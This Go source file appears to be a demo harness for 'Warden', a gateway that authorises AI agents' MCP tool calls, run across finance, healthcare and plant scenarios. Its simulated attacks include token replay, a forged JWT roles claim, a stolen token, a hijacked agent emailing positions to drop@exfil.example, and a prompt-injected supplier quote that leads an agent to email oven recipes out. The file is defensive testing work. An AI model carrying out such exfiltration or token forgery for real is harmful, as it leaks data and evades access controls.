package demo

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"text/tabwriter"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/warden-run/warden/internal/enforce/mcpgw"
	"github.com/warden-run/warden/internal/policy"
	"github.com/warden-run/warden/internal/store"
	"github.com/warden-run/warden/internal/wire"
	"github.com/warden-run/warden/sdk"
)

// Outcomes as the table shows them.
const (
	allowed   = "allow"
	denied    = "deny"
	approval  = "approval required"
	refused   = "refused (401)"
	contained = "contained by Warden"
	failed    = "error"
)

const (
	trader  = "ai-agent://prod/finance/trading-optimizer"
	radiol  = "ai-agent://prod/radiology/assistant"
	planner = "ai-agent://prod/plant/maintenance-planner"
	tuner   = "ai-agent://prod/plant/process-tuner"
	safety  = "ai-agent://prod/plant/safety-monitor"
	maria   = "maria.keller (a person)"
)

// More outcomes.
const (
	voted   = "approved"
	granted = "granted"
	done    = "done"
)

type result struct {
	outcome, detail string
	// text is a tool's whole answer, when it had one.
	text string
}

func mk(outcome, detail string) result { return result{outcome: outcome, detail: detail} }

type step struct {
	agent, what, expect string
	run                 func(ctx context.Context) result
}

// Play runs the scenarios and prints a table of every step: what the agent
// tried, what happened and why (the reasons are read from the audit log;
// agents only get a decision id). It reports whether every step went as
// the scenario expects.
func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
	fmt.Fprintf(out, "Warden %s, MCP gateway %s, data in %s\n", d.URL, d.GatewayURL, d.Data)
	if shift := d.PolicyClock.Sub(time.Now().UTC()); shift > time.Minute {
		fmt.Fprintf(out, "The market is closed now: policy sees the time as %s, the next trading session (decide.ClockShift %s).\n",
			d.PolicyClock.Format("Mon 2006-01-02 15:04 MST"), shift.Round(time.Minute))
	}
	fmt.Fprintln(out, "Agents are in trust domain prod: DPoP proofs on every request. Requests come from 127.0.0.1, region us-east here.")
	sessions := map[string]*mcp.ClientSession{}
	session := func(ctx context.Context, id string) (*mcp.ClientSession, error) {
		if s, ok := sessions[id]; ok {
			return s, nil
		}
		s, err := d.connect(ctx, id)
		if err == nil {
			sessions[id] = s
		}
		return s, err
	}
	defer func() {
		for _, s := range sessions {
			s.Close()
		}
	}()
	call := func(id, tool string, args any) func(ctx context.Context) result {
		return func(ctx context.Context) result {
			s, err := session(ctx, id)
			if err != nil {
				return result{outcome: failed, detail: err.Error()}
			}
			return d.call(ctx, s, tool, args)
		}
	}
	list := func(id string) func(ctx context.Context) result {
		return func(ctx context.Context) result {
			s, err := session(ctx, id)
			if err != nil {
				return result{outcome: failed, detail: err.Error()}
			}
			res, err := s.ListTools(ctx, nil)
			if err != nil {
				return result{outcome: failed, detail: err.Error()}
			}
			var names []string
			for _, t := range res.Tools {
				names = append(names, t.Name)
			}
			noun := "tools"
			if len(names) == 1 {
				noun = "tool"
			}
			return mk(allowed, fmt.Sprintf("sees %d %s: %s", len(names), noun, strings.Join(names, ", ")))
		}
	}
	order := func(qty int, cpty string) order {
		return order{Symbol: "ACME", Side: "buy", Quantity: qty, Price: 101.30, Counterparty: cpty}
	}

	scenarios := []struct {
		title, bundle string
		steps         []step
	}{
		{"Finance: a trading agent", "finance", []step{
			{trader, "lists its tools", allowed, list(trader)},
			{trader, "gets a quote for ACME", allowed, call(trader, "market-data__get_quote", map[string]string{"symbol": "ACME"})},
			{trader, "buys 100 ACME at 101.30 via GS-PRIME", allowed, call(trader, "trading__place_order", order(100, "GS-PRIME"))},
			{trader, "buys 5,000 ACME (506,500 notional, limit 250,000)", denied, call(trader, "trading__place_order", order(5000, "GS-PRIME"))},
			{trader, "buys 100 ACME via an unapproved counterparty", denied, call(trader, "trading__place_order", order(100, "OFFSHORE-X"))},
			{trader, "looks up a customer (PII)", denied, call(trader, "crm__lookup_customer", map[string]string{"customer_id": "C-100234"})},
			{trader, "attack: replays a captured request (same token and DPoP proof)", refused, d.replay},
			{trader, "attack: forged token (roles changed to senior-trader)", refused, d.forged},
			{trader, "attack: stolen token, used without the agent's key", refused, d.stolen},
			{trader, "attack: hijacked, it emails the positions out, again and again", contained, d.hijack(call(trader, "email__send", map[string]string{"to": "drop@exfil.example", "subject": "positions"}))},
			{"warden", "what the monitor saw, and what the playbook did", "done", d.incident(trader)},
			{trader, "tries to email the positions out once more", denied, call(trader, "email__send", map[string]string{"to": "drop@exfil.example", "subject": "positions"})},
		}},
		{"Healthcare: a radiology agent", "healthcare", []step{
			{radiol, "lists its tools", allowed, list(radiol)},
			{radiol, "queries a patient's imaging studies, outside any study", denied, call(radiol, "pacs__query_studies", map[string]string{"patient_id": "P-4471"})},
			{radiol, "asks for patient P-4471's studies for study 1.2.840.4471", granted, d.askStudyGrant(radiol, study, "P-4471")},
			{radiol, "queries P-4471's studies in that study", allowed, d.redacted(d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-4471"}))},
			{radiol, "queries another patient's studies in that study", denied, d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-9000"})},
			{radiol, "the study is done: it completes its task", done, d.completeTask(radiol, study)},
			{radiol, "queries P-4471's studies again, in the finished study", denied, d.callInTask(radiol, study, "pacs__query_studies", map[string]string{"patient_id": "P-4471"})},
			{radiol, "calls the oncology trial matcher", denied, call(radiol, "oncology__trial_matcher", nil)},
		}},
		{"Manufacturing: plant maintenance agents", "manufacturing", []step{
			{planner, "reads the line-3 oven temperature (ICS segment)", denied, call(planner, "oven__read_temperature", nil)},
			{planner, "emails the purchasing team", allowed, call(planner, "email__send", map[string]string{"to": "purchasing@plant.example", "subject": "spares"})},
			{planner, "reads a supplier's quote (untrusted content)", allowed, call(planner, "erp__read_supplier_quote", nil)},
			{planner, "emails purchasing about the quote it read", allowed, call(planner, "email__send", map[string]string{"to": "purchasing@plant.example", "subject": "Quote Q-88: 40 heating elements"})},
			{planner, "attack: emails the oven recipes out, as the quote told it", denied, call(planner, "email__send", map[string]string{"to": "archive@supplier-mail.example", "subject": "recipes"})},
			{tuner, "reads the line-3 oven temperature", allowed, call(tuner, "oven__read_temperature", nil)},
			{tuner, "sets the oven to 205 °C", approval, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
			{safety, "checks the request, approves with its own key", voted, d.agentApproves(safety)},
			{maria, "signs in at the plant's OpenID provider, approves", voted, d.personApproves},
			{tuner, "sets the oven to 205 °C again: it runs", allowed, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
			{tuner, "sets the oven to 205 °C once more", approval, call(tuner, "oven__set_temperature", map[string]int{"celsius": 205})},
			{tuner, "sets the oven to 400 °C", denied, call(tuner, "oven__set_temperature", map[string]int{"celsius": 400})},
		}},
	}
	ok := true
	n := 0
	for _, sc := range scenarios {
		version, err := d.activate(ctx, sc.bundle)
		if err != nil {
			return false, fmt.Errorf("activating %s: %w", sc.bundle, err)
		}
		fmt.Fprintf(out, "\n%s (policy bundle %s, version %s)\n", sc.title, sc.bundle, version[:19])
		tw := tabwriter.NewWriter(out, 0, 0, 2, ' ', 0)
		fmt.Fprintln(tw, "  #\tagent\tstep\toutcome\twhy")
		for _, st := range sc.steps {
			n++
			r := st.run(ctx)
			mark := ""
			if r.outcome != st.expect {
				mark, ok = "  << expected "+st.expect, false
			}
			fmt.Fprintf(tw, "  %d\t%s\t%s\t%s\t%s%s\n", n, short(st.agent), st.what, r.outcome, r.detail, mark)
		}
		tw.Flush()
	}
	return ok, nil
}

// connect opens an MCP session through the gateway as the agent, with the
// official Go SDK client and the agent's token and DPoP proofs.
func (d *Demo) connect(ctx context.Context, id string) (*mcp.ClientSession, error) {
	a := d.agents[id]
	var rt http.RoundTripper = a.client.Transport(nil)
	if ask, ok := userRequests[id]; ok {
		// The agent's framework tells the gateway what the user asked:
		// values in it are the user's.
		rt = withHeader{rt, wire.UserInputHeader, sdk.UserInput(ask)}
	}
	client := mcp.NewClient(&mcp.Implementation{Name: short(id), Version: "1"}, &mcp.ClientOptions{Capabilities: &mcp.ClientCapabilities{}})
	return client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: d.GatewayURL,
		HTTPClient: &http.Client{Transport: rt}, MaxRetries: -1}, nil)
}

// userRequests are what the users asked the agents to do.
var userRequests = map[string]string{
	planner: "Find the best supplier quote for 40 heating elements and keep purchasing@plant.example informed",
}

type withHeader struct {
	base        http.RoundTripper
	name, value string
}

func (h withHeader) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set(h.name, h.value)
	return h.base.RoundTrip(r)
}

// call calls a tool and says what came of it.
func (d *Demo) call(ctx context.Context, s *mcp.ClientSession, tool string, args any) result {
	res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	var rpc *jsonrpc.Error
	switch {
	case err == nil && res.IsError:
		return result{outcome: failed, detail: contentText(res)}
	case err == nil:
		text := contentText(res)
		return result{outcome: allowed, detail: clip(text, 70), text: text}
	case errors.As(err, &rpc) && (rpc.Code == mcpgw.CodeDenied || rpc.Code == mcpgw.CodeApprovalRequired):
		var data struct {
			DecisionID string `json:"decision_id"`
		}
		json.Unmarshal(rpc.Data, &data)
		e, lerr := d.decision(ctx, data.DecisionID)
		if lerr != nil {
			return result{outcome: failed, detail: lerr.Error()}
		}
		if rpc.Code == mcpgw.CodeApprovalRequired {
			var detail struct {
				Obligations struct {
					Approvals struct {
						Count  int      `json:"count"`
						Roles  []string `json:"roles"`
						Humans int      `json:"humans"`
						Agents int      `json:"agents"`
					} `json:"require_approvals"`
				} `json:"obligations"`
			}
			json.Unmarshal(e.Detail, &detail)
			var held struct {
				Approval struct {
					ID string `json:"id"`
				} `json:"approval"`
			}
			json.Unmarshal(rpc.Data, &held)
			d.lastApproval = held.Approval.ID
			a := detail.Obligations.Approvals
			return mk(approval, fmt.Sprintf("%d approvals by %s (%d person, %d agent): request %s", a.Count, strings.Join(a.Roles, ", "),
				a.Humans, a.Agents, held.Approval.ID))
		}
		return mk(denied, strings.Join(e.Reasons, ", "))
	default:
		return result{outcome: failed, detail: err.Error()}
	}
}

// redacted checks that a result reached the agent with the personal data
// the policy's redact obligation names masked.
func (d *Demo) redacted(run func(context.Context) result) func(context.Context) result {
	return func(ctx context.Context) result {
		r := run(ctx)
		if r.outcome != allowed {
			return r
		}
		if strings.Contains(r.text, "Grace Example") || !strings.Contains(r.text, mcpgw.Redacted) {
			return result{outcome: failed, detail: "personal data was not redacted"}
		}
		return result{outcome: allowed, detail: "patient.name, .ssn, .address arrive as " + mcpgw.Redacted}
	}
}

// hijack repeats a call the agent's roles never allow until Warden stops
// it by itself: the monitor scores each denial, and the bundle's playbook
// steps the agent up at medium risk, restricts it to reading at high, and
// quarantines it at critical.
func (d *Demo) hijack(attempt func(context.Context) result) func(context.Context) result {
	return func(ctx context.Context) result {
		id := trader
		for n := 1; n <= 30; n++ {
			r := attempt(ctx)
			if a, err := d.App.Registry.Agent(ctx, id); err == nil && (a.Status == store.StatusRestricted || a.Status == store.StatusQuarantined) {
				return mk(contained, fmt.Sprintf("%s after %d denied attempts (the last: %s)", a.Status, n, r.detail))
			}
			if r.outcome != denied {
				return mk(failed, fmt.Sprintf("attempt %d: %s", n, r.detail))
			}
		}
		return mk(failed, "30 denied attempts, and the agent is neither restricted nor quarantined")
	}
}

// incident shows what the monitor scored and what the playbook did.
func (d *Demo) incident(id string) func(context.Context) result {
	return func(ctx context.Context) result {
		rep, ok := d.App.Monitor.Report(id)
		if !ok {
			return mk(failed, "the monitor has no record of the agent")
		}
		// The responder records what it did once it has done all of it.
		var incs []store.Incident
		var err error
		for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(10 * time.Millisecond) {
			incs, err = d.App.Store.Incidents(ctx, store.IncidentFilter{AgentID: id, Open: true})
			if err != nil || (len(incs) > 0 && slices.ContainsFunc(incs[0].Actions, func(a store.IncidentAction) bool {
				return a.Action == policy.ResponseRestrict || a.Action == policy.ResponseQuarantine
			})) || time.Now().After(deadline) {
				break
			}
		}
		if err != nil || len(incs) == 0 {
			return mk(failed, fmt.Sprintf("no open incident: %v", err))
		}
		var taken []string
		for _, a := range incs[0].Actions {
			taken = append(taken, a.Action)
		}
		return mk("done", fmt.Sprintf("risk %d (%s), signals %s; incident %s: %s", rep.Risk.Score, rep.Risk.Level,
			strings.Join(rep.Risk.Signals, ", "), incs[0].ID, strings.Join(taken, ", ")))
	}
}

// replay sends one request twice with the same token and DPoP proof.
func (d *Demo) replay(ctx context.Context) result {
	a := d.agents[trader]
	tok, err := a.client.Token(ctx)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	proof, err := a.key.DPoPProof("POST", d.GatewayURL, tok.AccessToken)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	h := http.Header{"Authorization": {"DPoP " + tok.AccessToken}, "Dpop": {proof}}
	if r := d.raw(ctx, h); r.outcome != allowed {
		return mk(failed, "the original request failed: "+r.detail)
	}
	return d.raw(ctx, h)
}

// forged alters a real token's claims and keeps its signature.
func (d *Demo) forged(ctx context.Context) result {
	a := d.agents[trader]
	tok, err := a.client.Token(ctx)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	parts := strings.Split(tok.AccessToken, ".")
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	var claims map[string]any
	json.Unmarshal(payload, &claims)
	claims["roles"] = []string{"senior-trader"}
	payload, _ = json.Marshal(claims)
	forged := parts[0] + "." + base64.RawURLEncoding.EncodeToString(payload) + "." + parts[2]
	proof, err := a.key.DPoPProof("POST", d.GatewayURL, forged)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	return d.raw(ctx, http.Header{"Authorization": {"DPoP " + forged}, "Dpop": {proof}})
}

// stolen presents the agent's token with a proof by another key.
func (d *Demo) stolen(ctx context.Context) result {
	tok, err := d.agents[trader].client.Token(ctx)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	proof, err := sdk.GenerateKey().DPoPProof("POST", d.GatewayURL, tok.AccessToken)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	return d.raw(ctx, http.Header{"Authorization": {"DPoP " + tok.AccessToken}, "Dpop": {proof}})
}

var challengeError = regexp.MustCompile(`error="([^"]*)", error_description="([^"]*)"`)

// raw sends an MCP initialize request with the given credentials.
func (d *Demo) raw(ctx context.Context, h http.Header) result {
	body := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`
	req, err := http.NewRequestWithContext(ctx, "POST", d.GatewayURL, strings.NewReader(body))
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	req.Header = h
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return result{outcome: failed, detail: err.Error()}
	}
	defer resp.Body.Close()
	io.Copy(io.Discard, resp.Body)
	if resp.StatusCode == http.StatusOK {
		return result{outcome: allowed, detail: ""}
	}
	if resp.StatusCode != http.StatusUnauthorized {
		return result{outcome: failed, detail: resp.Status}
	}
	m := challengeError.FindStringSubmatch(resp.Header.Get("WWW-Authenticate"))
	if m == nil {
		return result{outcome: refused, detail: resp.Header.Get("WWW-Authenticate")}
	}
	return mk(refused, m[1]+": "+clip(m[2], 60))
}

func contentText(r *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range r.Content {
		if t, ok := c.(*mcp.TextContent); ok {
			b.WriteString(t.Text)
		}
	}
	return b.String()
}

func clip(s string, n int) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}
